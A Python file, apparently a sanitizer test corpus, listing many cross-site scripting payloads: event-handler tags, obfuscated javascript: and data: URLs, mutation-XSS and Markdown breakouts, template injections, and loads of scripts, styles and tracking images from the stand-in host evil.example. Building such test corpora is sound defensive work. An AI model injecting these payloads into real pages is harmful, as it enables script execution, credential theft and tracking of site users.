"""Attacks on pages in forms that filters have missed: to run scripts, or load from other servers.

Each one would call `pwned()`, or fetch from `evil.example`.
"""

_TAGS = ("img src=x", "svg", "body", "details open", "video", "audio src=x", "input autofocus")
_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onpointerenter", "onbegin")
_HANDLERS = tuple(f"<{tag} {event}=pwned()>" for tag in _TAGS for event in _EVENTS)
_URLS = (
    "javascript:pwned()",
    "JaVaScRiPt:pwned()",
    "java\tscript:pwned()",
    "&#106;avascript:pwned()",
    "&#x6A;avascript&colon;pwned()",
    " javascript:pwned()",
    "\x01javascript:pwned()",
    "vbscript:pwned()",
    "data:text/html,<script>pwned()</script>",
    "data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+",
    "//evil.example/x.js",
)
_LINKS = tuple(
    shape.format(url)
    for url in _URLS
    for shape in ("[x]({})", "![x]({})", "<{}>", '<a href="{}">x</a>', "[x]: {}\n\n[x]")
)
VECTORS = (
    *_HANDLERS,
    *_LINKS,
    "<script>pwned()</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\x00>pwned()</script>",
    "<svg/onload=pwned()><animate onbegin=pwned()>",
    "<svg><script>pwned()</script></svg>",
    "<svg><a><animate attributeName=href values=javascript:pwned() /><text>x</text></a></svg>",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "<iframe src=javascript:parent.pwned()></iframe>",
    "<object data=//evil.example/x></object><embed src=//evil.example/x>",
    "<link rel=stylesheet href=//evil.example/x.css><style>@import '//evil.example/x';</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button autofocus>Allow</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned()></style></mglyph></table>",
    "<noscript><p title='</noscript><img src=x onerror=pwned()>'></noscript>",
    "<template><img src=x onerror=pwned()></template>",
    "<textarea></textarea><img src=x onerror=pwned()></textarea>",
    "<select><style></select><img src=x onerror=pwned()></style>",
    "<![CDATA[><img src=x onerror=pwned()>]]>",
    "<!--><img src=x onerror=pwned()>-->",
    "<?xml version='1.0'?><img src=x onerror=pwned()>",
    "<<img src=x onerror=pwned()//",
    "<img src=//evil.example/x.png srcset='//evil.example/y.png 2x'>",
    "<img/src=`x`onerror=pwned()>",
    "<a href=https://e.example/ onclick=pwned() style=animation-name:x>x</a>",
    '[x](https://e.example/"onmouseover="pwned())',
    "[x](https://e.example/'onmouseover='pwned())",
    '[x](https://e.example "title\\" onload=pwned()")',
    '![x" onerror="pwned()](https://evil.example/x.png)',
    "![x](https://evil.example/track.png)",
    '<https://e.example/"onclick=pwned()>',
    '```"><img src=x onerror=pwned()>\nx\n```',
    "```js\n</code></pre><img src=x onerror=pwned()>\n```",
    "`</code><img src=x onerror=pwned()>`",
    '| <img src=x onerror=pwned()> | y" onload=1 |\n|:-|-:|\n| </td><svg onload=pwned()> | x |',
    "- [x] </li><img src=x onerror=pwned()>",
    "# </h3><img src=x onerror=pwned()>",
    "> </blockquote><img src=x onerror=pwned()>",
    "{{constructor.constructor('pwned()')()}} ${pwned()} <%= pwned() %> #{pwned()}",
    "\u2028<img src=x onerror=pwned()>\u202e",
    "&lt;img src=x onerror=pwned()&gt; &amp;lt;img src=x onerror=pwned()&amp;gt;",
    "https://e.example/<img/src=x/onerror=pwned()>",
)
